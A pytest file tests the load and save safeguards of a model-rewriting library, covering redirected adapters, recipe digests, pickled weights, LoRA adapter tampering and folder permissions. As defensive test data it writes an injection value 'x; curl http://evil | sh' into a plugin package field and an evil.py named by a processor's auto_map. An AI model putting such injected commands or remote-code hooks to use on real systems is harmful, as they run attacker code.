"""Issue 29: no load returns another model, no code runs behind a prompt, a kept adapter is never lost or
swapped, and the folder a save leaves is an ordinary one. Each case failed before its fix."""

from __future__ import annotations

import json
import os
import stat
import subprocess
import sys
import textwrap

import pytest
import torch
from conftest import images, tiny
from fakehub import FakeHub
from safetensors.torch import load_file, save_file
from test_cards_and_push import TOKEN
from transformers import AutoModelForImageClassification

import surgery
from surgery.checkpoint.files import DIGEST_KEY
from surgery.errors import RecipeError, SurgeryError
from surgery.publish.hub import publishable_files, push
from surgery.toolkit.adapters import holds_adapter_layers, is_peft_model

OPTION_EDITS = {  # an option each plugin reads at forward time, edited in config.json
    "token_merge": ("r", 1),
    "ggem": ("eps", 1e-2),
}


def saved_model(folder, specs=(("token_merge", {"r": 2}), "ggem")):
    model = surgery.apply(tiny("vit"), list(specs)).eval()
    model.save_pretrained(folder)
    return model


def loaders(folder):
    return {
        "surgery.load": lambda: surgery.load(folder),
        "from_pretrained": lambda: AutoModelForImageClassification.from_pretrained(folder),
    }


def edit_json(path, change):
    data = json.loads(path.read_text())
    change(data)
    path.write_text(json.dumps(data))


def edit_config(folder, change):
    edit_json(folder / "config.json", change)


def rewrite_metadata(folder, change):
    path = folder / "model.safetensors"
    from safetensors import safe_open

    with safe_open(str(path), "pt") as handle:
        metadata = dict(handle.metadata() or {})
    tensors = load_file(str(path))
    change(metadata)
    save_file(tensors, str(path), metadata=metadata)


# -- 1. an adapter_config.json at the root redirects transformers to another model --------------------
def test_a_root_adapter_config_is_refused_instead_of_loading_its_base_model(tmp_path):
    saved_model(tmp_path / "a")
    surgery.apply(tiny("vit", seed=5), ["ggem"]).save_pretrained(tmp_path / "other")
    (tmp_path / "a" / "adapter_config.json").write_text(
        json.dumps(
            {
                "base_model_name_or_path": str(tmp_path / "other"),
                "peft_type": "LORA",
                "r": 2,
                "target_modules": ["query"],
            }
        )
    )
    with pytest.raises(
        RecipeError,
        match=r"adapter_config.json at the root of a model folder makes transformers load "
        r"the adapter's base model \('.*other'\)",
    ):
        surgery.load(tmp_path / "a")


# -- 2. and 3. the recipe digest: absent, or present without a recipe ---------------------------------
@pytest.mark.parametrize("edited", [None, *OPTION_EDITS])
def test_weights_without_a_recipe_digest_are_refused_by_both_loaders(tmp_path, edited):
    saved_model(tmp_path / "m")
    rewrite_metadata(tmp_path / "m", lambda m: m.pop(DIGEST_KEY))
    if edited is not None:
        option, value = OPTION_EDITS[edited]
        steps = lambda c: c["quantization_config"]["steps"]  # noqa: E731
        edit_config(
            tmp_path / "m",
            lambda c: next(s for s in steps(c) if s["plugin"] == edited)["options"].update({option: value}),
        )
    for name, load in loaders(tmp_path / "m").items():
        with pytest.raises(RecipeError, match="carries no recipe digest"):
            load()


def test_weights_saved_with_a_recipe_refuse_a_config_without_it(tmp_path):
    saved_model(tmp_path / "m", [("token_merge", {"r": 2})])  # no weights of its own: loads as a plain ViT

    def strip(config):
        config.pop("quantization_config")
        config["model_type"] = config.pop("surgery_base_model_type")

    edit_config(tmp_path / "m", strip)
    with pytest.raises(RecipeError, match="saved with a surgery recipe .* but config.json has none"):
        surgery.load(tmp_path / "m")


def test_a_plain_model_still_loads(tmp_path):
    model = tiny("vit").eval()
    model.save_pretrained(tmp_path / "plain")
    assert torch.equal(
        surgery.load(tmp_path / "plain")(pixel_values=images()).logits, model(pixel_values=images()).logits
    )


# -- 1. and 4. the same by Hub id, in both loaders --------------------------------------------------
BY_ID = textwrap.dedent("""
    import sys
    import surgery
    from transformers import AutoModelForImageClassification
    for repo in sys.argv[1:]:
        for name, load in (("surgery.load", surgery.load), ("from_pretrained", AutoModelForImageClassification.from_pretrained)):
            try:
                load(repo)
                print(repo, name, "LOADED")
            except Exception as error:
                print(repo, name, "REFUSED", str(error).splitlines()[0][:600])
""")


def test_by_hub_id_an_edited_recipe_and_a_root_adapter_are_refused(tmp_path, online):
    saved_model(tmp_path / "m")
    edit_config(tmp_path / "m", lambda c: c["quantization_config"]["steps"][0]["options"].update(r=1))
    saved_model(tmp_path / "n")
    with FakeHub(tmp_path / "hub", token=TOKEN) as hub:
        push(tmp_path / "m", "me/edited", token=TOKEN, endpoint=hub.url, check=False)
        push(tmp_path / "n", "me/redirected", token=TOKEN, endpoint=hub.url)
        (hub.repo("me/redirected") / "adapter_config.json").write_text(
            json.dumps({"base_model_name_or_path": "me/edited", "peft_type": "LORA"})
        )
        script = tmp_path / "load.py"
        script.write_text(BY_ID)
        env = dict(
            os.environ,
            HF_ENDPOINT=hub.url,
            HF_HUB_OFFLINE="0",
            HF_HOME=str(tmp_path / "hf-home"),
            HF_HUB_DISABLE_UPDATE_CHECK="1",
            HF_TOKEN=TOKEN,
        )
        result = subprocess.run(
            [sys.executable, str(script), "me/edited", "me/redirected"],
            capture_output=True,
            text=True,
            env=env,
            timeout=300,
        )
    lines = result.stdout.splitlines()
    assert result.returncode == 0, result.stderr[-2000:]
    assert [line.split(" ")[:3] for line in lines][:3] == [
        ["me/edited", "surgery.load", "REFUSED"],
        ["me/edited", "from_pretrained", "REFUSED"],
        ["me/redirected", "surgery.load", "REFUSED"],
    ], lines
    assert all("not the one these weights were saved with" in line for line in lines[:2]), lines
    assert "adapter_config.json at the root" in lines[2]


# -- 15. pickled weights never load, in either loader -----------------------------------------------
def test_a_surgery_checkpoint_as_a_pickle_is_refused_by_both_loaders(tmp_path):
    saved_model(tmp_path / "m")
    torch.save(load_file(str(tmp_path / "m" / "model.safetensors")), tmp_path / "m" / "pytorch_model.bin")
    os.remove(tmp_path / "m" / "model.safetensors")
    for name, load in loaders(tmp_path / "m").items():
        with pytest.raises((RecipeError, OSError), match="safetensors"):
            load()


# -- 6. an image processor that names code ----------------------------------------------------------
def test_a_processor_that_names_remote_code_never_runs_it_nor_asks(tmp_path, monkeypatch, capsys):
    from surgery.cli import main
    from surgery.data.processor import load_processor

    from surgery.demo.model import default_model

    folder = tmp_path / "m"
    surgery.save(
        surgery.load(default_model(progress=False)), folder, processor=load_processor(default_model(progress=False))
    )
    marker = tmp_path / "ran"
    (folder / "evil.py").write_text(
        f"open({str(marker)!r}, 'w').write('ran')\nfrom transformers import ViTImageProcessor as EvilProcessor\n"
    )
    edit = json.loads((folder / "preprocessor_config.json").read_text())
    edit["auto_map"] = {"AutoImageProcessor": "evil.EvilProcessor"}
    (folder / "preprocessor_config.json").write_text(json.dumps(edit))
    asked = []
    monkeypatch.setattr("builtins.input", lambda *a: asked.append(a) or "y")
    load_processor(folder)
    assert main(["eval", str(folder), "--data", "digits", "--split", "validation"]) == 0
    assert main(["apply", str(folder), "-p", "ggem", "-o", str(tmp_path / "out")]) == 0
    assert not marker.exists() and asked == []


# -- 7. and 8. a kept LoRA adapter ------------------------------------------------------------------
@pytest.fixture
def with_adapter(tmp_path):
    from peft import LoraConfig, get_peft_model

    from surgery.recovery.lora import target_modules

    model = surgery.apply(tiny("vit"), ["ggem"])
    names = target_modules(model, surgery.get_host().anatomy("vit"), ("query", "value"))  # either layout's names
    peft_model = get_peft_model(model, LoraConfig(r=2, lora_alpha=4, target_modules=names))
    with torch.no_grad():
        for name, parameter in peft_model.named_parameters():
            if "lora_B" in name:
                parameter.normal_()
    surgery.save(peft_model, tmp_path / "m")
    return peft_model.eval(), tmp_path / "m"


def test_a_kept_adapter_loads_with_its_model_and_is_pushed_with_it(with_adapter):
    peft_model, folder = with_adapter
    loaded = surgery.load(folder)
    assert is_peft_model(loaded)
    with torch.no_grad():
        assert torch.equal(loaded(pixel_values=images()).logits, peft_model(pixel_values=images()).logits)
    assert {"adapter/adapter_config.json", "adapter/adapter_model.safetensors"} <= set(publishable_files(folder)[0])


ADAPTER_EDITS = {
    "lora_alpha x8": lambda f: edit_json(
        f / "adapter" / "adapter_config.json", lambda c: c.update(lora_alpha=c["lora_alpha"] * 8)
    ),
    "target_modules moved": lambda f: edit_json(
        f / "adapter" / "adapter_config.json", lambda c: c.update(target_modules=sorted(c["target_modules"])[1:])
    ),
    "lora_B missing": lambda f: save_file(
        {k: v for k, v in load_file(str(f / "adapter" / "adapter_model.safetensors")).items() if "lora_B" not in k},
        str(f / "adapter" / "adapter_model.safetensors"),
    ),
}


@pytest.mark.parametrize("damage", list(ADAPTER_EDITS))
def test_an_edited_adapter_is_refused(with_adapter, damage):
    _, folder = with_adapter
    ADAPTER_EDITS[damage](folder)
    with pytest.raises(RecipeError, match="is not the adapter saved with this model"):
        surgery.load(folder)


@pytest.mark.parametrize("damage", ["not LoRA", "lora_B missing"])
def test_a_recorded_adapter_that_is_not_the_lora_its_config_builds_is_refused(with_adapter, damage):
    """Past the digest (an adapter re-recorded after editing): what PEFT would build is still checked."""
    from surgery.checkpoint.adapter import ADAPTER_DIGEST_KEY, adapter_digest

    _, folder = with_adapter
    if damage == "not LoRA":
        edit_json(folder / "adapter" / "adapter_config.json", lambda c: c.update(peft_type="IA3"))
    else:
        ADAPTER_EDITS["lora_B missing"](folder)
    rewrite_metadata(folder, lambda m: m.update({ADAPTER_DIGEST_KEY: adapter_digest(folder / "adapter")}))
    expected = (
        "holds a 'IA3' adapter; surgery keeps LoRA adapters only"
        if damage == "not LoRA"
        else r"the adapter's weights do not fit the adapter its config builds \(missing \['base_model.model.*lora_B"
    )
    with pytest.raises(RecipeError, match=expected):
        surgery.load(folder)


def test_pickled_adapter_weights_and_a_missing_adapter_asked_for_are_refused(with_adapter, tmp_path):
    _, folder = with_adapter
    saved_model(tmp_path / "plain", ["ggem"])
    with pytest.raises(RecipeError, match="adapter=True, but the folder has no adapter/"):
        surgery.load(tmp_path / "plain", adapter=True)
    weights = folder / "adapter" / "adapter_model.safetensors"
    torch.save(load_file(str(weights)), folder / "adapter" / "adapter_model.bin")
    weights.unlink()
    with pytest.raises(
        RecipeError,
        match="adapter/ has no adapter_model.safetensors; surgery loads adapter weights from safetensors only",
    ):
        surgery.load(folder)


def test_a_peft_model_without_a_recipe_is_not_saved_with_its_adapter(tmp_path):
    from peft import LoraConfig, get_peft_model

    from surgery.recovery.lora import target_modules

    model = tiny("vit")
    peft_model = get_peft_model(
        model, LoraConfig(r=2, target_modules=target_modules(model, surgery.get_host().anatomy("vit"), ("query",)))
    )
    with pytest.raises(SurgeryError, match="surgery keeps a LoRA adapter beside a rewritten model only"):
        surgery.save(peft_model, tmp_path / "m")
    assert not (tmp_path / "m").exists()


def test_a_folder_that_lost_its_adapter_is_refused_unless_asked_for_the_model_alone(with_adapter):
    import shutil

    _, folder = with_adapter
    shutil.rmtree(folder / "adapter")
    with pytest.raises(RecipeError, match="saved with a LoRA adapter in adapter/ .* and adapter/ is missing"):
        surgery.load(folder)
    assert not is_peft_model(surgery.load(folder, adapter=False))


def test_an_adapter_the_weights_do_not_record_is_refused(with_adapter, tmp_path):
    import shutil

    _, folder = with_adapter
    saved_model(tmp_path / "plain", ["ggem"])
    shutil.copytree(folder / "adapter", tmp_path / "plain" / "adapter")
    with pytest.raises(RecipeError, match="holds an adapter that the model's weights do not record"):
        surgery.load(tmp_path / "plain")


def test_apply_and_revert_refuse_a_model_under_adapters_and_change_nothing(with_adapter):
    peft_model, _ = with_adapter
    before = {k: v.clone() for k, v in peft_model.state_dict().items()}
    for action in (lambda m: surgery.revert(m), lambda m: surgery.apply(m, ["token_merge"])):
        for target in (peft_model, peft_model.get_base_model()):
            with pytest.raises(SurgeryError, match="with LoRA adapters .* in it"):
                action(target)
    after = peft_model.state_dict()
    assert before.keys() == after.keys() and all(torch.equal(before[k], after[k]) for k in before)
    assert [s.plugin for s in surgery.history(peft_model.get_base_model())] == ["ggem"]


def test_a_refused_lora_resume_leaves_the_callers_model_as_it_was(tmp_path):
    from test_recover import noisy_data

    from surgery.recovery import recover

    model = surgery.apply(tiny("vit"), ["ggem"])
    flags = {n: p.requires_grad for n, p in model.named_parameters()}
    with pytest.raises(SurgeryError, match="does not exist"):
        recover(model, tiny("vit"), noisy_data(), lora={"r": 2}, resume=tmp_path / "nowhere", epochs=1)
    assert not holds_adapter_layers(model)
    assert {n: p.requires_grad for n, p in model.named_parameters()} == flags


# -- 12. the missing-plugin refusal quotes only a distribution name --------------------------------
def test_a_missing_plugins_package_is_quoted_only_when_it_is_a_distribution_name(tmp_path):
    saved_model(tmp_path / "m", ["ggem"])
    edit_config(
        tmp_path / "m",
        lambda c: c["quantization_config"]["steps"][0].update(plugin="gone", package="x; curl http://evil | sh"),
    )
    with pytest.raises(RecipeError) as refused:
        surgery.load(tmp_path / "m")
    assert "pip install" not in str(
        refused.value
    ) and "curl http://evil | sh' is not a valid distribution name" in str(refused.value)
    edit_config(tmp_path / "m", lambda c: c["quantization_config"]["steps"][0].update(package="surgery-extra-plugins"))
    with pytest.raises(RecipeError, match="pip install surgery-extra-plugins"):
        surgery.load(tmp_path / "m")


# -- 13. the folder a save leaves has the mode save_pretrained gives --------------------------------
def test_a_saved_folder_has_the_umasks_mode_and_a_replaced_one_keeps_its_own(tmp_path):
    umask = os.umask(0o022)
    try:
        saved_model(tmp_path / "new", ["ggem"])
        assert stat.S_IMODE((tmp_path / "new").stat().st_mode) == 0o755
        (tmp_path / "kept").mkdir(mode=0o750)
        os.chmod(tmp_path / "kept", 0o750)
        saved_model(tmp_path / "kept", ["ggem"])
        assert stat.S_IMODE((tmp_path / "kept").stat().st_mode) == 0o750
    finally:
        os.umask(umask)


# -- 14. the command line: results of a Hub id, a checkpoint folder that is a file --------------------
def test_eval_of_a_hub_id_prints_and_writes_no_folder(tmp_path, monkeypatch, capsys):
    from surgery.cli import main

    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(
        "surgery.evaluation.measure.dataset_accuracy",
        lambda model, data, split: {"accuracy": 0.5, "dataset": "digits test"},
    )
    assert main(["eval", "me/x", "--data", "digits"]) == 0
    captured = capsys.readouterr()
    assert "accuracy 50.00% on digits test" in captured.out and "not recorded: me/x is a Hub id" in captured.err
    assert not (tmp_path / "me").exists()


def test_recover_refuses_a_checkpoint_dir_that_is_a_file_before_training(tmp_path):
    from test_recover import noisy_data

    from surgery.recovery import recover

    (tmp_path / "file").write_text("x")
    with pytest.raises(SurgeryError, match="checkpoint_dir .* is a file"):
        recover(surgery.apply(tiny("vit"), ["ggem"]), tiny("vit"), noisy_data(), checkpoint_dir=tmp_path / "file")
